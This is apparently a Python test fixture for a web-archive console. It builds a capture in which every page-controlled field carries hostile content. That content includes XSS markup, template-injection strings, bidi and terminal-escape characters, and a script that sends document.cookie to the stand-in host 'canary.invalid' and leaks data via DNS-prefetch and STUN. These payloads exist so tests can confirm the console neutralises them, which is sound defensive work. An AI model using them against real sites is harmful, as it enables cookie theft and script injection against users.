"""
A sealed capture in which everything that a page can choose is hostile to who looks at it.

Title, addresses, text, headers, notes and files try to run a script, to leave the page, to load
something, to send something, to overlay the console, and to turn or hide text. Whatever succeeds
reaches `CANARY`, a host that a test watches, or sets `window.owned`.
"""

import struct
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from snapshotter.app.archive import annotations
from snapshotter.app.archive.observations import ObservationSource, observations
from snapshotter.formats.bundle import store_keys
from snapshotter.formats.digest import digest_bytes
from snapshotter.formats.page import assessment as assessments
from snapshotter.formats.statements import takedown
from snapshotter.index.open_index import open_index_file
from snapshotter.model.annotations import AnnotationKind, Mark, NewAnnotation, ReviewDecision
from snapshotter.model.assessment import Assessment
from snapshotter.model.capture import (
    Action,
    FailedRequest,
    ImageCounts,
    Outcome,
    PictureKind,
    Reason,
    RequestCounts,
)
from snapshotter.model.reading import Readings
from snapshotter.model.takedown import ConfirmRules, Takedown, TakedownKind
from snapshotter.policy.page_identity import shipped_identity_rules
from snapshotter.ports import Signer
from snapshotter.store.filesystem import DirectoryStore
from tests import annotated, bundles, observed
from tests.fakes.world import FixedClock
from tests.site_bundles import whole_picture

CANARY = "canary.invalid"
AT = datetime(2026, 5, 27, 8, 0, tzinfo=UTC)
# For HTML, attributes, CSS and templates.
MARKUP = (
    f"\"'></title></textarea></style><script>window.owned=1;fetch('//{CANARY}/script')</script>"
    f"<img src=//{CANARY}/img onerror=window.owned=2><svg/onload=window.owned=3>"
    f"<a href=javascript:window.owned=4>x</a><iframe src=//{CANARY}/frame></iframe>"
    f"<base href=//{CANARY}/><meta http-equiv=refresh content='0;url=//{CANARY}/meta'>"
    f"<link rel=dns-prefetch href=//dns.{CANARY}><form action=//{CANARY}/form><input name=q></form>"
    "{{ 7*7 }}{% for x in () %}"
)
# What each text of a stranger's contains: this also turns text around, and is for terminals.
PAYLOAD = f"{MARKUP}\u202e\u2066\x1b[2J\x07"
CASE = "hostile-case"
TITLE = f"A page {PAYLOAD}"
URL = (
    "http://example.test/a?next=javascript:alert(1)&q=%22%3E%3Cscript%3Ewindow.owned=5%3C/script%3E"
)
SCRIPT = f"""
window.owned = 6;
try {{ fetch("//{CANARY}/cookie?" + document.cookie); }} catch (error) {{}}
try {{ top.location = "//{CANARY}/top"; }} catch (error) {{}}
try {{ parent.postMessage("owned", "*"); opener && opener.postMessage("owned", "*"); }}
catch (error) {{}}
try {{ navigator.serviceWorker.register("worker.js"); }} catch (error) {{}}
try {{ window.open("//{CANARY}/window"); }} catch (error) {{}}
try {{ new RTCPeerConnection({{iceServers: [{{urls: "stun:stun.{CANARY}"}}]}})
  .createDataChannel("x"); }} catch (error) {{}}
const hint = document.createElement("link");
hint.rel = "dns-prefetch"; hint.href = "//script-dns.{CANARY}"; document.head.append(hint);
"""
HTML = f"<!doctype html><title>{PAYLOAD}</title><body><script>{SCRIPT}</script>{PAYLOAD}"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.owned=7">'
    f"<script>{SCRIPT.replace('&', '&amp;')}</script></svg>"
)
FILES: Mapping[str, bytes] = {
    "capture/dom.html": HTML.encode(),
    "capture/page.html": HTML.encode(),
    "capture/picture.svg": SVG.encode(),
    "capture/worker.js": SCRIPT.encode(),
    "capture/page.txt": f"First line\n{PAYLOAD}\nLast line\n".encode(),
}


class HostileArchive:
    """
    A store below a folder with one hostile capture, and with keys that a console trusts.

    Args:
        folder: As of `webclient.console_settings`.
        store, keys: The folders of the store and of the keys, if they are elsewhere.
    """

    def __init__(
        self,
        folder: Path,
        *,
        store: Path | None = None,
        keys: Path | None = None,
        png: bytes = bundles.PNG,
        graphic: bool = False,
    ) -> None:
        self.store = DirectoryStore(store or folder / "store")
        self.signer = bundles.new_signer()
        _make_trusted(keys or folder / "keys", self.signer)
        self._spool = folder / "spool"
        self._png = png
        self.bundle_id = self._put(AT, observed.available())
        self.key = f"bundles/{AT:%Y/%m/%d}/{self.bundle_id}.wacz"
        self._annotate(graphic)

    def add_event(self, index: Path) -> str:
        """
        Add a capture with a hostile notice, and the event that the page was removed; return its id.

        Args:
            index: The file of an index, which is made.
        """
        self._put(AT + timedelta(hours=1), _with_hostile_notice(observed.gone()))
        with open_index_file(index) as opened:
            rules = shipped_identity_rules()
            source = ObservationSource(store=self.store, index=opened, rules=rules)
            seen, gone = observations(source)
        event = Takedown(
            event_id=f"{gone.at:%Y%m%dt%H%M%Sz}-k3v4q2m7xw4c5b6d",
            kind=TakedownKind.REMOVED,
            at=gone.at,
            identity=seen.identity,
            url=URL,
            last_seen=seen,
            first_gone=gone,
            confirm=ConfirmRules(times=1, control=False),
        )
        data = takedown.encode(event, self.signer)
        key = store_keys.takedown_key(event.event_id)
        self.store.put_new(key, data, digest_bytes(data).sha256)
        return event.event_id

    def _put(self, at: datetime, assessed: Assessment) -> str:
        spool = self._spool / f"{at:%H%M}"
        spool.mkdir(parents=True, exist_ok=True)
        png = self._png
        shown = replace(assessed, readings=Readings(main_text=PAYLOAD))
        contents = {
            **bundles.CONTENTS,
            **FILES,
            "capture/screenshot.png": png,
            assessments.PATH: assessments.encode(shown),
        }
        made = bundles.capture(spool, at=at, title=TITLE, contents=contents)
        assert made.response is not None
        size = struct.unpack(">II", png[16:24])
        made = replace(
            made,
            requested_url=URL,
            final_url=URL,
            outcome=Outcome.PARTIAL,
            reasons=(Reason(code="images-missing", detail=PAYLOAD),),
            warnings=(Reason(code="clock-skew", detail=PAYLOAD),),
            actions=(Action(at=AT, kind="scroll", detail=PAYLOAD),),
            failed_requests=(
                FailedRequest(url=f"{URL}&x={PAYLOAD}", resource_type="Image", error=PAYLOAD),
            ),
            requests=RequestCounts(total=2, answered=1, failed=1),
            images=ImageCounts(wanted=1, failed=1, failed_urls=(f"{URL}{PAYLOAD}",)),
            response=replace(
                made.response,
                url=URL,
                headers=(("content-type", "text/html"), ("x-note", PAYLOAD.replace("\x1b", ""))),
            ),
            pictures=(whole_picture(PictureKind.PAGE, "capture/screenshot.png", *size),),
        )
        sealed = observed.sealed(
            made, bundles.decision(require_timestamps=0), spool, self.signer, (), FixedClock(at), ""
        )
        observed.put(self.store, sealed)
        return sealed.id

    def _annotate(self, graphic: bool) -> None:
        service = annotated.service_on(self.store, signer=self.signer, name=PAYLOAD[:64])
        ids = (self.bundle_id,)
        tag = NewAnnotation(kind=AnnotationKind.TAG_ADDED, bundles=ids, name="hostile")
        note = NewAnnotation(kind=AnnotationKind.NOTE_ADDED, bundles=ids)
        review = NewAnnotation(
            kind=AnnotationKind.REVIEWED, bundles=ids, name=ReviewDecision.NEEDS_WORK
        )
        case = NewAnnotation(kind=AnnotationKind.CASE_CREATED, case=CASE)
        added = NewAnnotation(kind=AnnotationKind.CASE_ADDED, bundles=ids, case=CASE, exhibits=(1,))
        mark = NewAnnotation(kind=AnnotationKind.MARKED, bundles=ids, name=Mark.GRAPHIC)
        for new, text in (
            (case, PAYLOAD),
            (added, PAYLOAD),
            (tag, ""),
            (note, PAYLOAD),
            (review, PAYLOAD),
        ):
            annotations.append(service, _always(new), text=text)
        if graphic:
            annotations.append(service, _always(mark))


def _with_hostile_notice(assessed: Assessment) -> Assessment:
    """Return an assessment of a page that shows the payload as its notice."""
    return replace(assessed, takedown=replace(assessed.takedown, notice=PAYLOAD))


def _always(new: NewAnnotation) -> Callable[[object], NewAnnotation]:
    return lambda _: new


def _make_trusted(keys: Path, signer: Signer) -> None:
    """Let a console trust a key whose private part it does not have."""
    keys.mkdir(parents=True, mode=0o700, exist_ok=True)
    (keys / "default.pub.pem").write_bytes(signer.public_key_pem)
